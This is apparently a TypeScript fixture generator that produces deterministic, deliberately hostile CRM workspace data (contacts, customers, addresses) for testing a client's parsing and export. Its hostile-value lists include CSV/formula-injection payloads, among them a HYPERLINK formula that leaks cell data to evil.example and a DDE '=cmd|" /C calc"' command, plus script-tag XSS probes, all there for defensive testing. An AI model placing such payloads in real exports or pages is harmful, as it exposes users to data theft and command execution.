/**
 * A deterministic, realistic and deliberately hostile Qwoty workspace, as the real API would send it.
 *
 * Records are raw JSON-shaped objects following the contract in `shared/qwoty-api.md`: they are what the
 * client must parse, not what it produces. Every record except the ones `invalid` and `bent` break on purpose passes
 * the schemas of `src/shared/schema.ts`. Hostile values (other scripts, quotes, commas, line breaks, formula-
 * and markup-looking text, leading-zero ids, malformed and duplicated emails, unknown roles, omitted
 * optional fields) are spread through the data, and a fixed list of them is always present (see
 * `HOSTILE_CONTACTS` below), so a test on a small workspace meets every one.
 */

import { Buffer } from 'node:buffer';

export interface GenerateWorkspaceOptions {
  /** How many contacts (records of `GET /contacts`). */
  contacts: number;
  /** Same seed, same options → byte-identical records. Default 1. */
  seed?: number | undefined;
  /** Average contacts per customer; the workspace has `ceil(contacts / contactsPerCustomer)` customers. Default 8. */
  contactsPerCustomer?: number | undefined;
  /**
   * How many contacts to break so that their identity is unusable and they must be rejected, each in a different
   * way (see `InvalidContactKind`), at deterministic positions listed in `Workspace.invalidContacts`. The other
   * records are unchanged. Default 0.
   */
  invalid?: number | undefined;
  /**
   * How many contacts to give a peripheral field that does not validate, each in a different way (see
   * `BentContactKind`): they must still be published, with the field mapped or emptied. Positions are listed in
   * `Workspace.bentContacts`, apart from the invalid ones. Default 0.
   */
  bent?: number | undefined;
}

/** The ways `invalid` breaks a contact's identity, in the order they are used (then cycled). */
export const INVALID_CONTACT_KINDS = [
  'missing id',
  'customer_id is not a UUID',
  'id is not a UUID',
  'missing customer_id',
] as const;
export type InvalidContactKind = (typeof INVALID_CONTACT_KINDS)[number];

/** The ways `bent` spoils a peripheral field of a contact, in the order they are used (then cycled). */
export const BENT_CONTACT_KINDS = [
  'role is a string',
  'email is a number',
  'created_at is not a timestamp',
  'no name and no email',
  'address_ids holds a non-UUID',
  'phone is an object',
] as const;
export type BentContactKind = (typeof BENT_CONTACT_KINDS)[number];

/** A generated workspace: the raw bodies of `GET /contacts`, `GET /customers/{id}` and `GET /addresses`. */
export interface Workspace {
  workspaceId: string;
  seed: number;
  contacts: unknown[];
  customers: unknown[];
  addresses: unknown[];
  /** The contacts `invalid` broke: position in `contacts` and how. Sorted by index. */
  invalidContacts: { index: number; kind: InvalidContactKind }[];
  /** The contacts `bent` spoiled a field of: position in `contacts` and how. Sorted by index. */
  bentContacts: { index: number; kind: BentContactKind }[];
}

/** Fields of a contact record; all optional and `unknown` since hostile and invalid records bend them. */
interface RawContact {
  id?: unknown;
  workspace_id?: unknown;
  customer_id?: unknown;
  first_name?: unknown;
  last_name?: unknown;
  email?: unknown;
  phone?: unknown;
  role?: unknown;
  id_crm?: unknown;
  id_erp?: unknown;
  id_accounting?: unknown;
  address_ids?: unknown;
  created_at?: unknown;
  updated_at?: unknown;
  /** Not in the docs: the client must keep fields it does not know. */
  locale?: unknown;
}

interface RawCustomer {
  id: string;
  workspace_id?: string;
  name: string;
  type: string;
  segment_id: string | null;
  logo: string | null;
  tax_ids: { tax: string; tax_value: string }[];
  id_crm: string | null;
  id_erp: string | null;
  id_accounting: string | null;
  contact_ids?: string[];
  address_ids?: string[];
  created_at: string;
  updated_at: string;
}

interface RawAddress {
  id: string;
  workspace_id?: string;
  customer_id: string;
  type: string;
  name: string | null;
  address_line1: string;
  address_line2: string | null;
  city: string;
  state: string | null;
  postal_code: string;
  country: string;
  contact_id: string | null;
  comment: string | null;
  id_crm: string | null;
  id_erp: string | null;
  id_accounting: string | null;
  created_at: string;
  updated_at: string;
}

/**
 * Contacts that every workspace holds (as far as it has contacts), spread evenly through `contacts`.
 * Each one carries a value a naive exporter or page gets wrong.
 */
const HOSTILE_CONTACTS: readonly ((contact: RawContact) => void)[] = [
  (c) => Object.assign(c, { first_name: 'Zoë', last_name: 'Ñúñez' }),
  (c) => Object.assign(c, { first_name: 'Łukasz', last_name: 'Müller' }),
  (c) => Object.assign(c, { first_name: '太郎', last_name: '山田', email: 'taro.yamada@example.jp' }),
  (c) => Object.assign(c, { first_name: 'Γιώργος', last_name: 'Παπαδόπουλος' }),
  (c) => Object.assign(c, { first_name: 'محمد', last_name: 'العلي' }),
  (c) => Object.assign(c, { first_name: 'Дмитрий', last_name: 'Иванов' }),
  (c) => Object.assign(c, { first_name: 'Seán', last_name: "O'Brien", email: "sean.o'brien@example.ie" }),
  (c) => Object.assign(c, { first_name: 'Robert "Bob"', last_name: 'Smith' }),
  (c) => Object.assign(c, { first_name: 'Jean', last_name: 'Dupont, Jr.', email: 'contact@acme.com' }),
  (c) => Object.assign(c, { first_name: 'Marie', last_name: 'Curie', email: 'contact@acme.com' }),
  (c) => Object.assign(c, { first_name: 'Anne\nMarie', last_name: 'Line\r\nBreak' }),
  (c) => Object.assign(c, { first_name: '=HYPERLINK("https://evil.example/?x="&A1,"Click me")' }),
  (c) => Object.assign(c, { first_name: '@SUM(A1)', last_name: '-5' }),
  (c) => Object.assign(c, { first_name: '+33612345678', last_name: '=1+1' }),
  (c) => Object.assign(c, { first_name: '<script>alert(1)</script>', last_name: '<b>bold</b>' }),
  (c) => Object.assign(c, { email: null, phone: null }),
  (c) => Object.assign(c, { first_name: null, last_name: null, email: 'only.email@example.com' }),
  (c) => Object.assign(c, { first_name: '', email: 'jean.dupont@' }),
  (c) => Object.assign(c, { email: 'not an email' }),
  (c) => Object.assign(c, { email: '  Mixed.Case@Example.COM ' }),
  (c) => Object.assign(c, { role: ['decision_maker'] }),
  (c) => Object.assign(c, { role: [] }),
  (c) => Object.assign(c, { role: ['buyer', 'signer', 'billing', 'shipping', 'legal', 'admin'] }),
  (c) => Object.assign(c, { id_crm: '000123', id_erp: '0042', id_accounting: '00000000000000012345' }),
  (c) => Object.assign(c, { phone: '(555) 010-0199' }),
  (c) => Object.assign(c, { phone: '+49-30-1234567' }),
  (c) => Object.assign(c, { phone: '+33 6 12 34 56 78' }),
  (c) => Object.assign(c, { first_name: 'Zoe\u0308', last_name: 'Null' }),
  (c) => Object.assign(c, { first_name: '  padded  ', last_name: 'Tab\tSeparated' }),
  (c) => Object.assign(c, { first_name: '👩‍💻', last_name: 'Nguyễn' }),
  (c) => {
    delete c.workspace_id;
    delete c.address_ids;
  },
  (c) => Object.assign(c, { locale: 'fr-FR' }),
];

const HOSTILE_CUSTOMER_NAMES: readonly string[] = [
  "Société Générale d'Équipement",
  'Acme, Inc.',
  'Müller & Söhne GmbH',
  '"Le Petit Bistro" SARL',
  '株式会社山田商事',
  'Ελληνικά Τρόφιμα Α.Ε.',
  'شركة الأمل للتجارة',
  'ООО «Ромашка»',
  '=HYPERLINK("https://evil.example","Acme")',
  '<script>alert(1)</script> Corp',
  'Line One\nLine Two SAS',
  '@SUM(A1) Holdings',
  '-5 Degrees Ltd',
  '  Padded Name  ',
];

const KNOWN_ROLES = ['buyer', 'signer', 'billing', 'shipping', 'legal', 'admin'] as const;

/** A name as shown, and the ASCII form used to make email addresses. */
type Name = readonly [display: string, ascii: string];

function asciiOf(text: string): string {
  return text
    .normalize('NFD')
    .replace(/\p{M}/gu, '')
    .replace(/[łŁ]/g, 'l')
    .replace(/[øØ]/g, 'o')
    .replace(/ß/g, 'ss')
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '');
}

function names(list: readonly (string | Name)[]): readonly Name[] {
  return list.map((entry) => (typeof entry === 'string' ? [entry, asciiOf(entry)] : entry));
}

const FIRST_NAMES = names([
  'Jean',
  'Marie',
  'Pierre',
  'Sophie',
  'Camille',
  'Lucas',
  'Chloé',
  'Hélène',
  'François',
  'Noël',
  'Hans',
  'Anna',
  'Jürgen',
  'Björn',
  'Søren',
  'Zoë',
  'Łukasz',
  'Agnieszka',
  'José',
  'María',
  'Íñigo',
  'John',
  'Emily',
  'Michael',
  'Sarah',
  'David',
  'Laura',
  'Giulia',
  'Marco',
  'Aoife',
  'Siobhán',
  ['太郎', 'taro'],
  ['花子', 'hanako'],
  ['Γιώργος', 'giorgos'],
  ['Ελένη', 'eleni'],
  ['محمد', 'mohammed'],
  ['فاطمة', 'fatima'],
  ['Дмитрий', 'dmitry'],
  ['Ольга', 'olga'],
]);

const LAST_NAMES = names([
  'Dupont',
  'Martin',
  'Bernard',
  'Lefèvre',
  'Moreau',
  'Girard',
  'Müller',
  'Schmidt',
  'Schneider',
  'Weiß',
  'Ñúñez',
  'García',
  'Fernández',
  'López',
  "O'Brien",
  "O'Connor",
  "D'Angelo",
  'Smith',
  'Johnson',
  'Williams',
  'Brown',
  'Kowalski',
  'Nowak',
  'Wiśniewski',
  'Jørgensen',
  'van der Berg',
  'Le Gall',
  'Rossi',
  'Bianchi',
  'Murphy',
  'Nguyễn',
  ['山田', 'yamada'],
  ['佐藤', 'sato'],
  ['Παπαδόπουλος', 'papadopoulos'],
  ['العلي', 'alali'],
  ['Иванов', 'ivanov'],
  ['Петрова', 'petrova'],
]);

/** Values that break naive CSV, spreadsheet or HTML output; sprinkled into names at a low rate. */
const HOSTILE_TEXT: readonly string[] = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  '+33 6 12 34 56 78',
  '-5',
  '@SUM(A1)',
  '=1+1',
  '<script>alert(1)</script>',
  '<b>bold</b>',
  'Robert "Bob"',
  'Smith, John',
  'Anne\nMarie',
  'Line\r\nBreak',
  '  padded  ',
  'Tab\tSeparated',
  'Zoe\u0308',
  '👩‍💻 Dev',
];

const COMPANY_WORDS = names([
  'Atlas',
  'Horizon',
  'Nordwind',
  'Azur',
  'Quantum',
  'Helios',
  'Pyrénées',
  'Alpenblick',
  'Sakura',
  'Olympus',
  'Bosphore',
  'Baltic',
  'Granit',
  'Lumière',
  'Edelweiß',
  'Iberia',
  'Thames',
  'Acme',
]);

const COMPANY_SECTORS = names([
  'Logistique',
  'Consulting',
  'Foods',
  'Systems',
  'Bau',
  'Médical',
  'Textiles',
  'Energy',
  'Immobilier',
  'Transports',
  'Software',
  'Papeterie',
]);

interface CountryProfile {
  code: string;
  weight: number;
  tld: string;
  suffixes: readonly string[];
  cities: readonly string[];
  states: readonly string[] | null;
  street: (r: Random) => string;
  postalCode: (r: Random) => string;
  phones: readonly ((r: Random) => string)[];
}

const STREETS = ['de la Paix', 'Victor Hugo', 'du Moulin', 'des Lilas', 'Saint-Honoré', 'Jean Jaurès'];
const STRASSEN = ['Haupt', 'Bahnhof', 'Goethe', 'Schiller', 'Linden', 'Müller'];
const US_STREETS = ['Main', 'Oak', 'Maple', 'Washington', 'Lake', 'Hill'];

/** '000' to '999': joining short table entries is much faster than formatting numbers. */
const THREE_DIGITS = Array.from({ length: 1000 }, (_, n) => String(n).padStart(3, '0'));

function digits(r: Random, count: number): string {
  let text = '';
  for (let left = count; left > 0; left -= 3) {
    const chunk = THREE_DIGITS[r.int(1000)] ?? '000';
    text += left >= 3 ? chunk : chunk.slice(3 - left);
  }
  return text;
}

function pairs(r: Random, count: number): string {
  const parts: string[] = [];
  for (let i = 0; i < count; i++) parts.push(digits(r, 2));
  return parts.join(' ');
}

const COUNTRIES: readonly CountryProfile[] = [
  {
    code: 'FR',
    weight: 30,
    tld: 'fr',
    suffixes: ['SAS', 'SARL', 'SA'],
    cities: ['Paris', 'Lyon', 'Marseille', 'Nîmes', 'Besançon', 'Saint-Étienne', 'Bourg-en-Bresse'],
    states: null,
    street: (r) => `${1 + r.int(120)} rue ${r.pick(STREETS)}`,
    postalCode: (r) => `0${1 + r.int(9)}${digits(r, 3)}`,
    phones: [
      (r) => `+33 6 ${pairs(r, 4)}`,
      (r) => `0${1 + r.int(5)} ${pairs(r, 4)}`,
      (r) => `+33${1 + r.int(7)}${digits(r, 8)}`,
      (r) => `+33 1 ${pairs(r, 4)} ext. ${digits(r, 2)}`,
    ],
  },
  {
    code: 'DE',
    weight: 15,
    tld: 'de',
    suffixes: ['GmbH', 'AG', 'KG'],
    cities: ['Berlin', 'München', 'Köln', 'Düsseldorf', 'Dresden'],
    states: null,
    street: (r) => `${r.pick(STRASSEN)}straße ${1 + r.int(200)}`,
    postalCode: (r) => `0${digits(r, 4)}`,
    phones: [(r) => `+49-30-${digits(r, 7)}`, (r) => `+49 89 ${digits(r, 8)}`, (r) => `030 ${digits(r, 7)}`],
  },
  {
    code: 'US',
    weight: 15,
    tld: 'com',
    suffixes: ['Inc.', 'LLC', 'Corp.'],
    cities: ['Boston', 'New York', 'San Francisco', 'Austin', 'Chicago'],
    states: ['MA', 'NY', 'CA', 'TX', 'IL'],
    street: (r) => `${1 + r.int(9000)} ${r.pick(US_STREETS)} St`,
    postalCode: (r) => (r.chance(0.3) ? `0${digits(r, 4)}-${digits(r, 4)}` : `0${digits(r, 4)}`),
    phones: [
      (r) => `(555) 010-${digits(r, 4)}`,
      (r) => `+1 555-010-${digits(r, 4)}`,
      (r) => `555.010.${digits(r, 4)}`,
    ],
  },
  {
    code: 'GB',
    weight: 10,
    tld: 'co.uk',
    suffixes: ['Ltd', 'PLC'],
    cities: ['London', 'Manchester', 'Leeds', 'Bristol'],
    states: null,
    street: (r) => `${1 + r.int(300)} ${r.pick(['High', 'Church', 'Station', 'Victoria'])} Road`,
    postalCode: (r) => r.pick(['SW1A 1AA', 'EC1A 1BB', 'M1 1AE', 'LS1 4DY', 'BS1 5TR']),
    phones: [(r) => `+44 20 7946 0${digits(r, 3)}`],
  },
  {
    code: 'ES',
    weight: 8,
    tld: 'es',
    suffixes: ['S.L.', 'S.A.'],
    cities: ['Madrid', 'Barcelona', 'A Coruña', 'Logroño', 'Cádiz'],
    states: null,
    street: (r) => `Calle ${r.pick(['Mayor', 'del Pez', 'de Alcalá', 'Núñez de Balboa'])}, ${1 + r.int(150)}`,
    postalCode: (r) => `0${digits(r, 4)}`,
    phones: [(r) => `+34 6${digits(r, 2)} ${pairs(r, 3)}`],
  },
  {
    code: 'JP',
    weight: 5,
    tld: 'jp',
    suffixes: ['KK', 'Co., Ltd.'],
    cities: ['東京都', '大阪市', 'Kyoto', 'Sapporo'],
    states: ['Tokyo', 'Osaka', 'Kyoto', 'Hokkaido'],
    street: (r) => `${1 + r.int(9)}-${1 + r.int(20)}-${1 + r.int(30)} Shibuya`,
    postalCode: (r) => `${digits(r, 3)}-${digits(r, 4)}`,
    phones: [(r) => `03-${digits(r, 4)}-${digits(r, 4)}`, (r) => `+81 3-${digits(r, 4)}-${digits(r, 4)}`],
  },
  {
    code: 'IT',
    weight: 5,
    tld: 'it',
    suffixes: ['S.r.l.', 'S.p.A.'],
    cities: ['Roma', 'Milano', 'Forlì'],
    states: null,
    street: (r) => `Via ${r.pick(['Roma', 'Garibaldi', 'Dante'])} ${1 + r.int(99)}`,
    postalCode: (r) => `00${digits(r, 3)}`,
    phones: [(r) => `+39 06 ${digits(r, 4)} ${digits(r, 4)}`],
  },
  {
    code: 'BE',
    weight: 4,
    tld: 'be',
    suffixes: ['SRL', 'NV'],
    cities: ['Bruxelles', 'Liège', 'Gent'],
    states: null,
    street: (r) => `Avenue ${r.pick(['Louise', 'de Tervueren'])} ${1 + r.int(400)}`,
    postalCode: (r) => `${1 + r.int(9)}${digits(r, 3)}`,
    phones: [(r) => `+32 2 ${digits(r, 3)} ${pairs(r, 2)}`],
  },
  {
    code: 'CH',
    weight: 4,
    tld: 'ch',
    suffixes: ['AG', 'SA', 'GmbH'],
    cities: ['Zürich', 'Genève', 'Lausanne'],
    states: null,
    street: (r) => `Bahnhofstrasse ${1 + r.int(100)}`,
    postalCode: (r) => `${1 + r.int(9)}${digits(r, 3)}`,
    phones: [(r) => `+41 44 ${digits(r, 3)} ${pairs(r, 2)}`],
  },
  {
    code: 'CA',
    weight: 4,
    tld: 'ca',
    suffixes: ['Inc.', 'Ltée'],
    cities: ['Montréal', 'Toronto', 'Québec'],
    states: ['QC', 'ON'],
    street: (r) => `${1 + r.int(3000)} rue ${r.pick(['Sainte-Catherine', 'Sherbrooke'])}`,
    postalCode: (r) => r.pick(['H2X 1Y4', 'M5V 2T6', 'G1R 4P5']),
    phones: [(r) => `+1 (514) 555-${digits(r, 4)}`],
  },
];

const COUNTRY_WEIGHT_TOTAL = COUNTRIES.reduce((sum, country) => sum + country.weight, 0);

export interface Random {
  /** A float in [0, 1). */
  next: () => number;
  uint32: () => number;
  /** An integer in [0, max). */
  int: (max: number) => number;
  chance: (probability: number) => boolean;
  pick: <T>(items: readonly T[]) => T;
  uuid: () => string;
}

/** mulberry32: tiny, fast and good enough for test data; the same seed gives the same sequence everywhere. */
export function createRandom(seed: number): Random {
  let state = seed >>> 0;
  const uint32 = (): number => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return (t ^ (t >>> 14)) >>> 0;
  };
  const next = (): number => uint32() / 4294967296;
  const int = (max: number): number => Math.floor(next() * max);
  return {
    next,
    uint32,
    int,
    chance: (probability) => next() < probability,
    pick: (items) => {
      const item = items[int(items.length)];
      if (item === undefined) throw new RangeError('Cannot pick from an empty list');
      return item;
    },
    uuid: () => {
      const b = uint32();
      const c = uint32();
      writeHex(uint32(), 0, 8);
      writeHex(b >>> 16, 9, 4);
      writeHex((b & 0x0fff) | 0x4000, 14, 4);
      writeHex(((c >>> 16) & 0x3fff) | 0x8000, 19, 4);
      writeHex(c & 0xffff, 24, 4);
      writeHex(uint32(), 28, 8);
      return uuidScratch.toString('latin1');
    },
  };
}

/** UUIDs are written into one buffer: 10× faster and 5× smaller in memory than joining hex strings. */
const uuidScratch = Buffer.from('00000000-0000-4000-8000-000000000000', 'latin1');
const HEX_DIGITS = Buffer.from('0123456789abcdef', 'latin1');

function writeHex(value: number, offset: number, width: number): void {
  for (let i = 0; i < width; i++) {
    uuidScratch[offset + i] = HEX_DIGITS[(value >>> ((width - 1 - i) * 4)) & 15] ?? 48;
  }
}

/**
 * Returns the same text as one flat string. V8 keeps a joined string as a tree of its pieces, several times
 * the size of the text; turning it into a number flattens it in place. This keeps 100,000 contacts lean.
 */
function flat(text: string): string {
  Number(text);
  return text;
}

function hex(value: number, width: number): string {
  return value.toString(16).padStart(width, '0');
}

const START = Date.UTC(2019, 0, 1);
const END = Date.UTC(2025, 5, 1);

/** A pair of ISO 8601 timestamps, mostly `toISOString()` form, some without milliseconds or with an offset. */
function timestamps(r: Random): [created: string, updated: string] {
  const created = START + r.int(END - START);
  const updated = created + r.int(END - created);
  return [iso(r, created), iso(r, updated)];
}

const DAY = 86_400_000;
const timestampScratch = Buffer.alloc(32);
/** Year, month and day of each day since START, computed once: `toISOString()` per record is the slow part. */
const calendar: { year: number; month: number; day: number }[] = [];

/** Mostly `toISOString()` form; some without milliseconds, some with a +02:00 offset (same instant). */
function iso(r: Random, time: number): string {
  const roll = r.next();
  const offset = roll < 0.97 ? 0 : 2 * 3_600_000;
  const local = time + offset;
  const dayIndex = Math.floor((local - START) / DAY);
  let date = calendar[dayIndex];
  if (!date) {
    const at = new Date(START + dayIndex * DAY);
    date = { year: at.getUTCFullYear(), month: at.getUTCMonth() + 1, day: at.getUTCDate() };
    calendar[dayIndex] = date;
  }
  const ms = local - START - dayIndex * DAY;
  let end = writeNumber(date.year, 0, 4);
  timestampScratch[end++] = 45;
  end = writeNumber(date.month, end, 2);
  timestampScratch[end++] = 45;
  end = writeNumber(date.day, end, 2);
  timestampScratch[end++] = 84;
  end = writeNumber(Math.floor(ms / 3_600_000), end, 2);
  timestampScratch[end++] = 58;
  end = writeNumber(Math.floor(ms / 60_000) % 60, end, 2);
  timestampScratch[end++] = 58;
  end = writeNumber(Math.floor(ms / 1000) % 60, end, 2);
  if (roll < 0.92) {
    timestampScratch[end++] = 46;
    end = writeNumber(ms % 1000, end, 3);
  }
  end += timestampScratch.write(offset === 0 ? 'Z' : '+02:00', end, 'latin1');
  return timestampScratch.toString('latin1', 0, end);
}

function writeNumber(value: number, offset: number, width: number): number {
  let rest = value;
  for (let i = width - 1; i >= 0; i--) {
    timestampScratch[offset + i] = 48 + (rest % 10);
    rest = Math.floor(rest / 10);
  }
  return offset + width;
}

function pickCountry(r: Random): CountryProfile {
  let roll = r.int(COUNTRY_WEIGHT_TOTAL);
  for (const country of COUNTRIES) {
    roll -= country.weight;
    if (roll < 0) return country;
  }
  return r.pick(COUNTRIES);
}

function roles(r: Random): string[] {
  const roll = r.next();
  if (roll < 0.08) return [];
  if (roll < 0.13) return ['decision_maker'];
  if (roll < 0.15) return ['buyer', 'technical_contact'];
  const first = r.pick(KNOWN_ROLES);
  if (roll < 0.75) return [first];
  const second = r.pick(KNOWN_ROLES);
  return second === first ? [first] : [first, second];
}

/** External ids look numeric with leading zeros: they must stay text downstream. */
function externalIds(r: Random): [crm: string | null, erp: string | null, accounting: string | null] {
  const crmRoll = r.next();
  const crm =
    crmRoll < 0.5
      ? `${'0'.repeat(1 + r.int(3))}${digits(r, 3)}`
      : crmRoll < 0.7
        ? `CRM-${digits(r, 5)}`
        : null;
  const erp = r.chance(0.4) ? `00${digits(r, 6)}` : null;
  const accountingRoll = r.next();
  const accounting =
    accountingRoll < 0.4 ? `411${digits(r, 5)}` : accountingRoll < 0.42 ? `000${digits(r, 17)}` : null;
  return [crm, erp, accounting];
}

function taxIds(r: Random, countryCode: string): { tax: string; tax_value: string }[] {
  const roll = r.next();
  if (roll < 0.2) return [];
  const vat = { tax: 'vat', tax_value: `${countryCode}${digits(r, 11)}` };
  return roll < 0.8 ? [vat] : [vat, { tax: 'siret', tax_value: `000${digits(r, 11)}` }];
}

function checkCount(name: string, value: unknown, minimum: number): number {
  if (typeof value !== 'number' || !Number.isInteger(value) || value < minimum) {
    throw new TypeError(
      `Expected \`${name}\` to be ${minimum === 0 ? 'a non-negative' : 'a positive'} integer, got ${String(value)}`,
    );
  }
  return value;
}

/** Where the `count` special records of a list of `total` go: spread evenly, first at 0. */
function spreadPositions(count: number, total: number): number[] {
  const used = Math.min(count, total);
  const stride = used === 0 ? 1 : Math.max(1, Math.floor(total / used));
  return Array.from({ length: used }, (_, k) => k * stride);
}

/** Builds a workspace. 100,000 contacts take a few hundred milliseconds. */
export function generateWorkspace(options: GenerateWorkspaceOptions): Workspace {
  const contactCount = checkCount('contacts', options.contacts, 0);
  const seed = checkCount('seed', options.seed ?? 1, 0);
  const perCustomer = checkCount('contactsPerCustomer', options.contactsPerCustomer ?? 8, 1);
  const invalidCount = checkCount('invalid', options.invalid ?? 0, 0);
  if (invalidCount > contactCount) {
    throw new RangeError(
      `Expected \`invalid\` (${invalidCount}) to be at most \`contacts\` (${contactCount})`,
    );
  }
  const bentCount = checkCount('bent', options.bent ?? 0, 0);
  if (invalidCount + bentCount > contactCount) {
    throw new RangeError(
      `Expected \`invalid\` and \`bent\` (${invalidCount + bentCount}) to be at most \`contacts\` (${contactCount})`,
    );
  }

  const r = createRandom(seed);
  const workspaceId = r.uuid();
  const customerCount = Math.ceil(contactCount / perCustomer);

  const customerIds = Array.from({ length: customerCount }, () => r.uuid());
  const contactIds = Array.from({ length: contactCount }, () => r.uuid());

  // Every customer gets one contact, the rest are spread at random: counts vary like in a real workspace.
  const ownerOf = new Uint32Array(contactCount);
  const membersByCustomer: number[][] = Array.from({ length: customerCount }, () => []);
  for (let i = 0; i < contactCount; i++) {
    const owner = i < customerCount ? i : r.int(customerCount);
    ownerOf[i] = owner;
    membersByCustomer[owner]?.push(i);
  }

  const customerCountry: CountryProfile[] = [];
  const customerDomain: string[] = [];
  const customerIsCompany: boolean[] = [];
  const customers: RawCustomer[] = [];
  const addresses: RawAddress[] = [];
  const contactAddressIds = new Map<number, string[]>();

  for (let k = 0; k < customerCount; k++) {
    const id = customerIds[k] ?? '';
    const country = pickCountry(r);
    const isCompany = r.chance(0.85);
    let name: string;
    let domain: string;
    if (isCompany) {
      const word = r.pick(COMPANY_WORDS);
      const sector = r.pick(COMPANY_SECTORS);
      const suffix = r.pick(country.suffixes);
      name = r.chance(0.15) ? `${word[0]} ${sector[0]}, ${suffix}` : `${word[0]} ${sector[0]} ${suffix}`;
      domain = flat(`${word[1]}-${sector[1]}.${country.tld}`);
    } else {
      const first = r.pick(FIRST_NAMES);
      const last = r.pick(LAST_NAMES);
      name = `${first[0]} ${last[0]}`;
      domain = r.pick(['example.com', 'example.org', 'example.net']);
    }
    customerCountry.push(country);
    customerDomain.push(domain);
    customerIsCompany.push(isCompany);

    const ownAddressIds: string[] = [];
    for (const type of r.chance(0.5) ? ['billing', 'shipping'] : ['billing']) {
      const addressId = r.uuid();
      ownAddressIds.push(addressId);
      const people = membersByCustomer[k] ?? [];
      const contactIndex = r.chance(0.3) && people.length > 0 ? people[r.int(people.length)] : undefined;
      if (contactIndex !== undefined) {
        const list = contactAddressIds.get(contactIndex);
        if (list) list.push(addressId);
        else contactAddressIds.set(contactIndex, [addressId]);
      }
      const [created, updated] = timestamps(r);
      const [crm, erp, accounting] = externalIds(r);
      const address: RawAddress = {
        id: addressId,
        ...(r.next() < 0.03 ? {} : { workspace_id: workspaceId }),
        customer_id: id,
        type,
        name: r.chance(0.4)
          ? null
          : r.pick(['Head office', 'Siège social', 'Warehouse', 'Entrepôt Nord', 'Main, rear entrance']),
        address_line1: flat(country.street(r)),
        address_line2: r.chance(0.7)
          ? null
          : r.pick(['Bâtiment B, 3e étage', 'Suite 200', 'c/o "Legal" Dept.', 'Porte 4\nCode 1234']),
        city: r.pick(country.cities),
        state: country.states ? r.pick(country.states) : null,
        postal_code: flat(country.postalCode(r)),
        country: country.code,
        contact_id: contactIndex === undefined ? null : (contactIds[contactIndex] ?? null),
        comment: r.chance(0.8)
          ? null
          : r.pick([
              'Deliveries 8am–5pm, ring twice',
              'Leave at reception; "fragile"',
              'Line one\nLine two',
              '=cmd|" /C calc"!A0',
              '<b>bold</b> comment',
            ]),
        id_crm: crm,
        id_erp: erp,
        id_accounting: accounting,
        created_at: created,
        updated_at: updated,
      };
      addresses.push(address);
    }

    const [created, updated] = timestamps(r);
    const [crm, erp, accounting] = externalIds(r);
    const customer: RawCustomer = {
      id,
      ...(r.next() < 0.03 ? {} : { workspace_id: workspaceId }),
      name: flat(name),
      type: isCompany ? 'company' : 'individual',
      segment_id: r.chance(0.4) ? null : `seg_${r.pick(['smb', 'enterprise', 'public', 'retail'])}`,
      logo: r.chance(0.7) ? null : `https://cdn.qwoty.example/logos/${hex(r.uint32(), 8)}.png`,
      tax_ids: isCompany ? taxIds(r, country.code) : [],
      id_crm: crm,
      id_erp: erp,
      id_accounting: accounting,
      ...(r.next() < 0.1
        ? {}
        : {
            contact_ids: (membersByCustomer[k] ?? []).map((i) => contactIds[i] ?? ''),
            address_ids: ownAddressIds,
          }),
      created_at: created,
      updated_at: updated,
    };
    customers.push(customer);
  }

  const contacts: RawContact[] = [];
  for (let i = 0; i < contactCount; i++) {
    const owner = ownerOf[i] ?? 0;
    const country = customerCountry[owner] ?? r.pick(COUNTRIES);
    const domain = customerDomain[owner] ?? 'example.com';
    const first = r.pick(FIRST_NAMES);
    const last = r.pick(LAST_NAMES);
    const [created, updated] = timestamps(r);
    const [crm, erp, accounting] = externalIds(r);

    const emailRoll = r.next();
    let email: string | null;
    if (emailRoll < 0.03) email = null;
    else if (emailRoll < 0.035)
      email = r.pick([
        `${first[1]}.${last[1]}@`,
        `${first[1]}${last[1]}`,
        `${first[1]} ${last[1]}@${domain}`,
      ]);
    else if (emailRoll < 0.05) email = `${r.pick(['info', 'contact', 'sales'])}@${domain}`;
    else if (customerIsCompany[owner])
      email = r.chance(0.7)
        ? `${first[1]}.${last[1]}@${domain}`
        : `${first[1].slice(0, 1)}${last[1]}@${domain}`;
    else email = `${first[1]}.${last[1]}${r.int(100)}@${domain}`;

    let addressIds: string[] | undefined;
    if (r.next() >= 0.05) {
      const own = contactAddressIds.get(i) ?? [];
      const billing = r.chance(0.4) ? customers[owner]?.address_ids?.[0] : undefined;
      const ids = billing && !own.includes(billing) ? [...own, billing] : own;
      // A rare dangling reference: an address deleted since; readers show what they can.
      addressIds = r.chance(0.002) ? [...ids, r.uuid()] : ids;
    }
    const withWorkspace = r.next() >= 0.03;
    const contact: RawContact = {
      id: contactIds[i],
      workspace_id: withWorkspace ? workspaceId : undefined,
      customer_id: customerIds[owner],
      first_name: r.chance(0.01) ? r.pick(HOSTILE_TEXT) : first[0],
      last_name: r.chance(0.01) ? r.pick(HOSTILE_TEXT) : last[0],
      email: email === null ? null : flat(email),
      phone: r.chance(0.15) ? null : flat(r.pick(country.phones)(r)),
      role: roles(r),
      id_crm: crm,
      id_erp: erp,
      id_accounting: accounting,
      address_ids: addressIds,
      created_at: created,
      updated_at: updated,
    };
    contacts.push(withWorkspace && addressIds ? contact : withoutAbsent(contact));
  }

  const hostilePositions = spreadPositions(HOSTILE_CONTACTS.length, contactCount);
  hostilePositions.forEach((position, k) => {
    const contact = contacts[position];
    const apply = HOSTILE_CONTACTS[k];
    if (contact && apply) {
      const before = { ...contact };
      apply(contact);
      matchEmailToName(contact, before);
    }
  });
  spreadPositions(HOSTILE_CUSTOMER_NAMES.length, customerCount).forEach((position, k) => {
    const customer = customers[position];
    const name = HOSTILE_CUSTOMER_NAMES[k];
    if (customer && name) customer.name = name;
  });

  const invalidContacts = placeSpecial(invalidCount, contactCount, hostilePositions, INVALID_CONTACT_KINDS);
  for (const { index, kind } of invalidContacts) {
    const contact = contacts[index];
    if (contact) breakContact(contact, kind);
  }
  const bentContacts = placeSpecial(
    bentCount,
    contactCount,
    [...hostilePositions, ...invalidContacts.map(({ index }) => index)],
    BENT_CONTACT_KINDS,
    0.25,
  );
  for (const { index, kind } of bentContacts) {
    const contact = contacts[index];
    if (contact) bendContact(contact, kind);
  }

  return { workspaceId, seed, contacts, customers, addresses, invalidContacts, bentContacts };
}

/** The record without its `undefined` fields: the API omits such fields rather than sending `null`. */
function withoutAbsent(record: RawContact): RawContact {
